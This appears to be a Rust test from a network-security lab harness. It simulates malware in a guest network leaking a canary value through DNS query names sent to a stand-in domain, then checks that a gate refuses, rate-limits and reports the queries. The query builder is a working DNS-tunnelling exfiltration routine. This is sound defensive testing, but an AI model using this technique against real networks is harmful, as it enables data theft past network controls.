//! T45: malware in the guest carries data out in names that it asks the city's resolver for.

use std::{
    net::{SocketAddrV4, UdpSocket},
    time::{Duration, Instant},
};

use sekisho_attacks::{Expects, Scene, must};
use sekisho_lab::{
    UP_LIMIT, address as at,
    oracle::{Canaries, count_frames},
};

/// Questions, as fast as they go.
const QUESTIONS: u32 = 3000;
/// What the gate lets through at once, and each second (`gate/edge/dns.rs`).
const BURST: u64 = 200;
const EACH_SECOND: u64 = 50;

/// A query for `MARK.NUMBER.x….mihon-city.example`, type TXT (RFC 1035 §4.1).
fn query(mark: &str, number: u32) -> Vec<u8> {
    let mut query = vec![0x5e, 0x4b, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    let filling = "x".repeat(60);
    let number = number.to_string();
    for label in [
        mark,
        &*number,
        &*filling,
        &*filling,
        "mihon-city",
        "example",
    ] {
        query.push(u8::try_from(label.len()).unwrap_or(63));
        query.extend_from_slice(label.as_bytes());
    }
    query.extend_from_slice(&[0, 0, 16, 0, 1]);
    query
}

#[test]
fn t45_names_carry_data_out_at_a_bounded_rate_and_are_counted() {
    let Some(scene) = Scene::cafe() else { return };
    let laptop = scene.laptop();
    let mark = laptop.events().mark();
    let canary = laptop.canary().hex();
    let ask = |resolver| {
        let socket = must(must(
            laptop
                .guest_space()
                .enter(|| UdpSocket::bind(SocketAddrV4::new(at::GUEST, 0))),
        ));
        must(socket.connect(SocketAddrV4::new(resolver, 53)));
        socket
    };
    // Past the gate's resolver: shut.
    must(ask(at::LGWAN_DNS).send(&query(&canary, 0)));
    must(laptop.wait_refused(mark, "default-deny", "udp 10.12.0.53:53"));

    let resolver = ask(at::GUEST_ROUTER);
    let start = Instant::now();
    let mut sent = 0_u64;
    for number in 1..=QUESTIONS {
        sent += u64::from(resolver.send(&query(&canary, number)).is_ok());
        // The guest's own NIC has a short queue; a hundred are gone in a moment.
        if number % 100 == 0 {
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    // One more, a second later: it brings the report of all that went before it, or is answered.
    std::thread::sleep(Duration::from_millis(1_100));
    for number in 0..100 {
        let _ = resolver.send(&query(&canary, QUESTIONS + number));
    }
    let took = start.elapsed();
    must(laptop.wait_refused(mark, "dns-refused", ""));
    // Names are answered again once the budget has filled up.
    must(laptop.wait_page(UP_LIMIT));

    let counted: u64 = laptop
        .events()
        .all()
        .iter()
        .skip(mark)
        .filter(|event| event.is("gate", "refused") && event.text("rule") == "dns-refused")
        .filter_map(|event| event.said.get("count")?.as_u64())
        .sum();
    let canaries = Canaries::new([laptop.canary()]);
    let recordings = scene.holds(&laptop, Expects::Tunnelled);
    let passed = must(count_frames(must(recordings.get("tunnel")), |packet| {
        packet.len() > 28
            && packet[9] == 17
            && packet[16..20] == at::LGWAN_DNS.octets()
            && canaries.find(packet).is_some()
    }));
    eprintln!("{sent} names in {took:?}: {passed} passed, {counted} were refused and reported");
    let bound = BURST + EACH_SECOND * (took.as_secs() + 1);
    assert!(passed > 0, "no name passed: the search is blind");
    assert!(passed <= bound, "{passed} names passed, not {bound}");
    assert!(
        counted >= sent / 2,
        "only {counted} of {sent} were reported"
    );
}
